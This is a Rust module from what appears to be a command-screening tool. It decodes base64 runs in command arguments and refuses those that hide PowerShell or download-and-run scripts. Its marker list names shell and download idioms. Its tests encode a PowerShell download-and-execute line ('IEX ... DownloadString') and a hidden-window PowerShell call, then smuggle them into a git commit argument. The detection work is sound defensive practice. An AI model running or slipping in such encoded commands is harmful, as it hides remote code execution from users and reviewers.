//! Base64-encoded scripts hidden in arguments.
//!
//! An encoded PowerShell command smuggled as an argument (to a tool that
//! later decodes and runs it) passes every word-based rule. Any run of 24+
//! base64 characters that decodes, as UTF-8 or UTF-16LE (NUL bytes dropped),
//! to text naming a shell or a download-and-run idiom is refused.

use super::tokenize::Arg;

/// Words that mark decoded bytes as a script, compared lower-cased.
const MARKERS: &[&str] = &[
    "powershell",
    "cmd.exe",
    "invoke-",
    "start-process",
    "iex ",
    "downloadstring",
];

/// The first argument carrying an encoded script, if any.
pub fn encoded_script(argv: &[Arg]) -> Option<&str> {
    argv.iter()
        .map(|a| a.text.as_str())
        .find(|text| runs(text).any(is_script))
}

/// Maximal runs of `[A-Za-z0-9+/]` of at least 16 characters, each with up
/// to two `=` of padding that follow it.
fn runs(text: &str) -> impl Iterator<Item = &str> {
    let bytes = text.as_bytes();
    let mut i = 0;
    std::iter::from_fn(move || {
        while i < bytes.len() {
            let start = i;
            while i < bytes.len()
                && (bytes[i].is_ascii_alphanumeric() || bytes[i] == b'+' || bytes[i] == b'/')
            {
                i += 1;
            }
            let mut end = i;
            while end < bytes.len() && end - i < 2 && bytes[end] == b'=' {
                end += 1;
            }
            if i == start {
                i += 1;
                continue;
            }
            if i - start >= 16 {
                i = end;
                return Some(&text[start..end]);
            }
        }
        None
    })
}

fn is_script(run: &str) -> bool {
    if run.len() < 24 || !run.len().is_multiple_of(4) {
        return false;
    }
    let Some(bytes) = decode(run) else {
        return false;
    };
    let text: String =
        String::from_utf8_lossy(&bytes.into_iter().filter(|&b| b != 0).collect::<Vec<_>>())
            .to_lowercase();
    MARKERS.iter().any(|m| text.contains(m))
}

/// Strict standard base64 (padding only at the end).
fn decode(run: &str) -> Option<Vec<u8>> {
    let value = |c: u8| match c {
        b'A'..=b'Z' => Some(c - b'A'),
        b'a'..=b'z' => Some(c - b'a' + 26),
        b'0'..=b'9' => Some(c - b'0' + 52),
        b'+' => Some(62),
        b'/' => Some(63),
        _ => None,
    };
    let body = run.trim_end_matches('=');
    let padding = run.len() - body.len();
    if padding > 2 || !(body.len() + padding).is_multiple_of(4) {
        return None;
    }
    let mut out = Vec::with_capacity(body.len() * 3 / 4);
    let mut acc = 0u32;
    let mut bits = 0;
    for &c in body.as_bytes() {
        acc = (acc << 6) | u32::from(value(c)?);
        bits += 6;
        if bits >= 8 {
            bits -= 8;
            out.push((acc >> bits) as u8);
            acc &= (1 << bits) - 1;
        }
    }
    // Strictness: the unused low bits of the last character must be zero.
    (acc == 0).then_some(out)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::command::tokenize::tokenize;

    fn encode(bytes: &[u8]) -> String {
        const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let mut out = String::new();
        for chunk in bytes.chunks(3) {
            let n = chunk.iter().fold(0u32, |acc, &b| (acc << 8) | u32::from(b))
                << (8 * (3 - chunk.len()));
            for k in 0..=chunk.len() {
                out.push(ALPHABET[(n >> (18 - 6 * k) & 63) as usize] as char);
            }
        }
        while !out.len().is_multiple_of(4) {
            out.push('=');
        }
        out
    }

    #[test]
    fn encoded_scripts_are_found_in_utf8_and_utf16() {
        let utf8 = encode(b"IEX (New-Object Net.WebClient).DownloadString('http://x')");
        let utf16: Vec<u8> = "powershell -nop -w hidden"
            .encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect();
        let utf16 = encode(&utf16);
        for payload in [utf8.clone(), utf16, format!("--data={utf8}")] {
            let argv = tokenize(&format!("git commit -m '{payload}'")).unwrap();
            assert!(encoded_script(&argv).is_some(), "{payload}");
        }
    }

    #[test]
    fn ordinary_base64_and_hashes_pass() {
        let innocent = encode(b"just some harmless binary-ish data, nothing to run here");
        for text in [
            innocent.as_str(),
            "0123456789abcdef0123456789abcdef01234567",
            "src/very/long/path/to/some/file/name.cpp",
            "sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=",
        ] {
            let argv = tokenize(&format!("git commit -m '{text}'")).unwrap();
            assert_eq!(encoded_script(&argv), None, "{text}");
        }
    }

    #[test]
    fn decoding_is_strict() {
        assert_eq!(decode("aGVsbG8="), Some(b"hello".to_vec()));
        assert_eq!(decode("aGVsbG9="), None, "non-zero trailing bits");
        assert_eq!(decode("aGVsbG8"), None, "missing padding");
        assert_eq!(decode("a==="), None);
    }
}
